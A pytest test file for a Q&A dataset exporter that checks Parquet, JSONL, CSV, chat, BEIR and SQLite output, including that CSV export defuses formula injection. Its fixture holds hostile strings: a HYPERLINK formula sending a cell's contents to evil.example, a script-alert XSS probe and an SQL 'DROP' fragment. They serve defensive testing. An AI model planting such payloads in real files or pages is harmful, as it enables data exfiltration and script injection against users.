"""What each format makes of the same small dataset, hostile strings included."""

import csv
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from qapipe.dataset.choices import ChatAnswers, Format
from qapipe.dataset.export import sqlite_file
from qapipe.dataset.export.chat import ChatOptions
from qapipe.dataset.export.exporting import Exported, ExportOptions, export
from qapipe.errors import DatasetError, UsageError
from qapipe.records import plain
from qapipe.records.reasons import Reason
from support.datasets import rows_of
from support.of_records import make_dataset
from support.records import DAY, answered, asked, refused

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
SCRIPT = "<script>alert(1)</script> | `x` \"quoted\", 'single'; -- DROP"
LONG = "-" + "x" * 1_000_000


def pages() -> list[plain.Record]:
    first = asked(
        "p1", "q1",
        answered(1, "Ida Quist", "- item\n- item", answer_id="a1", votes=2, is_accepted=False),
        answered(2, None, SCRIPT, answer_id="a2", votes=9, rating=4.5, rating_best=5.0, headline="@SUM(A1)"),
        answered(3, "Ola Berg", "Reply, 猫 \U0001f600", answer_id="a3", votes=99, parent_position=1),
        answered(4, "Ola Berg", "Short", answer_id="a4", votes=1, is_accepted=True, rating=3.0),
    )  # fmt: skip
    assert first.question is not None
    first.answers[0].author_credentials, first.answers[1].answered_at = ("MD", "=x"), DAY
    first.question.title, first.question.asker, first.question.topics = FORMULA, "'quoted", ("one", "two; three")
    first.question.body, first.question.asked_at = "+1 (no sum)", DAY
    second = asked("p2", "q2")
    third = asked("p3", "q3", answered(1, "Ida Quist", LONG, answer_id="a5"))
    assert third.question is not None
    third.question.title = LONG
    return [first, second, refused("p4", Reason.LIST), third]


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    for page in (found := pages()):
        for answer in page.answers:
            answer.expert_id = answer.author_name and f"e-{answer.author_name}"
    return make_dataset(tmp_path_factory.mktemp("made") / "d", *found)


def exported(dataset: Path, to: Format, out: Path, **options: Any) -> Exported:
    return export(dataset, to, out, ExportOptions(**options))


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_bytes().splitlines()]


def test_threads_are_the_questions_with_their_answers(dataset: Path, tmp_path: Path) -> None:
    done = exported(dataset, Format.THREADS, tmp_path / "x.parquet")
    assert (done.questions, done.answers, done.rows) == (3, 5, 3)
    threads = pq.read_table(tmp_path / "x.parquet").to_pylist()
    answers = rows_of(dataset, "answers")
    for thread, question in zip(threads, rows_of(dataset, "questions"), strict=True):
        own = [row for row in answers if row["question_id"] == question["question_id"]]
        nested = thread.pop("answers")
        assert thread == question
        assert nested == [{k: v for k, v in row.items() if k not in ("question_id", "site")} for row in own]


def test_json_lines_are_the_threads(dataset: Path, tmp_path: Path) -> None:
    exported(dataset, Format.THREADS, tmp_path / "x.parquet")
    assert exported(dataset, Format.JSONL, tmp_path / "x.jsonl").rows == 3
    found = lines(tmp_path / "x.jsonl")
    expected = pq.read_table(tmp_path / "x.parquet").to_pylist()
    assert found[0]["asked_at"] == "2020-02-29T12:00:00Z"
    assert json.loads(json.dumps(expected, default=lambda day: day.isoformat().replace("+00:00", "Z"))) == found


def test_pairs_are_the_answers_with_their_question(dataset: Path, tmp_path: Path) -> None:
    assert exported(dataset, Format.PAIRS, tmp_path / "x.parquet").rows == 5
    found = pq.read_table(tmp_path / "x.parquet").to_pylist()
    questions = {row["question_id"]: row for row in rows_of(dataset, "questions")}
    for pair, answer in zip(found, rows_of(dataset, "answers"), strict=True):
        question = questions[answer["question_id"]]
        assert [pair[name] for name in ("question_title", "question_body", "topics", "asked_at", "asker")] == [
            question[name] for name in ("title", "body", "topics", "asked_at", "asker")
        ]
        assert [pair[name] for name in ("answer_body", "answer_headline", "answer_votes", "author_name", "rating")] == [
            answer[name] for name in ("body", "headline", "votes", "author_name", "rating")
        ]


def test_csv_defuses_formulas_and_can_be_undone(dataset: Path, tmp_path: Path) -> None:
    assert exported(dataset, Format.CSV, tmp_path / "x.csv").rows == 5
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
        csv.field_size_limit(10_000_000)
        found = list(csv.DictReader(file))
    exported(dataset, Format.PAIRS, tmp_path / "x.parquet")
    expected = pq.read_table(tmp_path / "x.parquet").to_pylist()
    for row, pair in zip(found, expected, strict=True):
        assert not [cell for name, cell in row.items() if cell and cell[0] in "=+-@\t\r" and name != "answer_votes"]
        for name, value in pair.items():
            text = row[name].removeprefix("'")
            if value is None:
                assert row[name] == ""
            elif isinstance(value, str):
                assert text == value
            elif isinstance(value, bool):
                assert text == str(value).lower()
            elif isinstance(value, list):
                assert text == "; ".join(value)
            elif isinstance(value, int | float):
                assert float(text) == value
            else:
                assert text == "2020-02-29T12:00:00Z"
    assert found[0]["question_title"] == "'" + FORMULA
    assert found[0]["asker"] == "''quoted"
    assert found[0]["author_credentials"] == "MD; =x"


def test_chat_of_the_best_answer(dataset: Path, tmp_path: Path) -> None:
    exported(dataset, Format.CHAT, tmp_path / "x.jsonl")
    first, second = lines(tmp_path / "x.jsonl")
    assert first["messages"] == [
        {"role": "user", "content": f"{FORMULA}\n\n+1 (no sum)"}, {"role": "assistant", "content": "Short"},
    ]  # fmt: skip
    assert (first["question_id"], first["answer_id"], first["url"]) == ("q1", "a4", "https://x.example/p1")
    assert second["answer_id"] == "a5"


@pytest.mark.parametrize(
    ("options", "ids"),
    [
        (ChatOptions(ChatAnswers.ALL), ["a1", "a2", "a4", "a5"]),
        (ChatOptions(ChatAnswers.ALL, min_rating=3.5), ["a2"]),
        (ChatOptions(min_votes=2), ["a2"]),
        (ChatOptions(min_length=6), ["a2", "a5"]),
        (ChatOptions(min_length=10_000_000), []),
    ],
)
def test_chat_options(dataset: Path, tmp_path: Path, options: ChatOptions, ids: list[str]) -> None:
    exported(dataset, Format.CHAT, tmp_path / "x.jsonl", chat=options)
    assert [line["answer_id"] for line in lines(tmp_path / "x.jsonl")] == ids


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"is_accepted": True, "votes": 0}, {"is_accepted": False, "votes": 9}),
        ({"is_accepted": None, "votes": 1}, {"is_accepted": False, "votes": 0}),
        ({"votes": -7}, {"votes": None, "rating": 5.0}),
        ({"votes": 1, "rating": 4.0, "rating_best": 5.0}, {"votes": 1, "rating": 7.9, "rating_best": 10.0}),
        ({"rating": 4.1}, {"rating": 4.0, "rating_best": 5.0}),
        ({"rating": 8.1, "rating_best": 10.0}, {"rating": 4.0}),
        ({"rating": 0.1}, {"rating": None}),
        ({"rating": 4.0, "review_count": 1}, {"rating": 4.0, "review_count": None}),
        ({"review_count": 3}, {"review_count": 2}),
        ({"body": "the first of two"}, {}),
    ],
)
@pytest.mark.parametrize("swapped", [False, True])
def test_the_better_of_two_answers(tmp_path: Path, one: dict[str, Any], other: dict[str, Any], swapped: bool) -> None:
    if swapped and "body" in one:
        return
    pair = [
        answered(n, None, **{"answer_id": name, **more}) for n, (name, more) in enumerate((("a", one), ("b", other)))
    ]
    folder = make_dataset(tmp_path / "d", asked("p", "q", *(reversed(pair) if swapped else pair)))
    exported(folder, Format.CHAT, tmp_path / "x")
    assert [line["answer_id"] for line in lines(tmp_path / "x")] == ["a"]


def test_a_headline_stands_above_the_answer_unless_it_repeats_it(tmp_path: Path) -> None:
    repeated = answered(1, None, "It heals by itself.", answer_id="a1", headline="It heals...")
    other = answered(2, None, "No.", answer_id="a2", headline="Wait")
    folder = make_dataset(tmp_path / "d", asked("p", "q", repeated, other))
    exported(folder, Format.CHAT, tmp_path / "x", chat=ChatOptions(ChatAnswers.ALL))
    said = [line["messages"][1]["content"] for line in lines(tmp_path / "x")]
    assert said == ["It heals by itself.", "Wait\n\nNo."]


def test_beir(dataset: Path, tmp_path: Path) -> None:
    out = tmp_path / "beir"
    assert exported(dataset, Format.BEIR, out).rows == 4
    assert [line["_id"] for line in lines(out / "queries.jsonl")] == ["q1", "q3"], "q2 has no answer"
    corpus = {line["_id"]: line for line in lines(out / "corpus.jsonl")}
    assert list(corpus) == ["a1", "a2", "a4", "a5"], "a3 replies to an answer"
    assert (corpus["a2"]["title"], corpus["a2"]["text"]) == ("@SUM(A1)", SCRIPT)
    qrels = (out / "qrels" / "test.tsv").read_text().splitlines()
    assert qrels == ["query-id\tcorpus-id\tscore", "q1\ta1\t1", "q1\ta2\t1", "q1\ta4\t2", "q3\ta5\t1"]


def test_beir_needs_one_capture_of_each_question(tmp_path: Path) -> None:
    folder = make_dataset(tmp_path / "d", asked("p", "q"), captures="all")
    with pytest.raises(UsageError, match="several captures of a question, and BEIR one of each"):
        exported(folder, Format.BEIR, tmp_path / "beir")


def queried(path: Path, query: str) -> list[tuple[Any, ...]]:
    with closing(sqlite3.connect(path)) as database:
        return database.execute(query).fetchall()


def test_sqlite_has_the_tables_with_keys_and_search(dataset: Path, tmp_path: Path) -> None:
    path = tmp_path / "x.sqlite"
    assert exported(dataset, Format.SQLITE, path).rows == 5
    for table in ("pages", "questions", "answers", "experts"):
        names = list(rows_of(dataset, table)[0])
        assert queried(path, f"SELECT {', '.join(names)} FROM {table}") == [
            tuple(stored(value) for value in row.values()) for row in rows_of(dataset, table)
        ]
    assert queried(path, "PRAGMA foreign_key_check") == []
    assert queried(path, "PRAGMA integrity_check") == [("ok",)]
    found = "SELECT rowid FROM answers_text WHERE answers_text MATCH 'alert'"
    assert queried(path, f"SELECT answer_id FROM answers WHERE rowid IN ({found})") == [("a2",)]
    assert ("qapipe.schema_version", "2") in queried(path, "SELECT * FROM qapipe")


def stored(value: Any) -> Any:
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False)
    return value.isoformat().replace("+00:00", "Z") if hasattr(value, "isoformat") else value


def test_sqlite_of_a_selection_has_no_other_pages_and_experts(dataset: Path, tmp_path: Path) -> None:
    path = tmp_path / "x.sqlite"
    exported(dataset, Format.SQLITE, path, where="answers.author_name = 'Ola Berg'")
    assert queried(path, "SELECT answer_id FROM answers") == [("a3",), ("a4",)]
    assert queried(path, "SELECT page_id FROM pages") == [("p1",)]
    assert queried(path, "SELECT expert_id FROM experts") == [("e-Ola Berg",)]
    assert queried(path, "PRAGMA foreign_key_check") == []


def test_a_database_that_cannot_be_written(dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As on a full disk: a database of one page holds no table."""
    monkeypatch.setattr(sqlite_file, "_SETTINGS", ("page_size = 512", "max_page_count = 1"))
    message = "cannot write x.sqlite.*: database or disk is full; free some space, or check the dataset"
    with pytest.raises(DatasetError, match=message):
        exported(dataset, Format.SQLITE, tmp_path / "x.sqlite")
    assert list(tmp_path.iterdir()) == []


def test_sqlite_of_several_captures(tmp_path: Path) -> None:
    one, other = (asked(page, "q", answered(1, None, answer_id="a")) for page in ("p1", "p2"))
    path = tmp_path / "x.sqlite"
    exported(make_dataset(tmp_path / "d", one, other, captures="all"), Format.SQLITE, path)
    assert queried(path, "SELECT question_id, page_id FROM answers") == [("q", "p1"), ("q", "p2")]
    assert queried(path, "PRAGMA foreign_key_check") == []


@pytest.mark.parametrize("to", Format)
def test_the_same_dataset_gives_the_same_bytes(dataset: Path, tmp_path: Path, to: Format) -> None:
    contents = []
    for name in ("one", "two"):
        exported(dataset, to, tmp_path / name)
        files = sorted(path for path in (tmp_path / name, *(tmp_path / name).rglob("*")) if path.is_file())
        contents.append([path.read_bytes() for path in files])
    assert contents[0] == contents[1]
    assert all(contents[0])
    assert sorted(path.name for path in tmp_path.iterdir()) == ["one", "two"], "nothing is left beside it"


@pytest.mark.parametrize("to", [Format.CSV, Format.JSONL, Format.CHAT, Format.THREADS, Format.PAIRS])
def test_standard_output_gets_what_a_file_gets(dataset: Path, tmp_path: Path, to: Format) -> None:
    exported(dataset, to, tmp_path / "x")
    stream = io.BytesIO()
    export(dataset, to, Path("-"), ExportOptions(), stdout=stream)
    assert stream.getvalue() == (tmp_path / "x").read_bytes()


def test_no_text_has_a_control_character(dataset: Path, tmp_path: Path) -> None:
    exported(dataset, Format.CSV, tmp_path / "x.csv")
    text = (tmp_path / "x.csv").read_text("utf-8")
    assert not re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
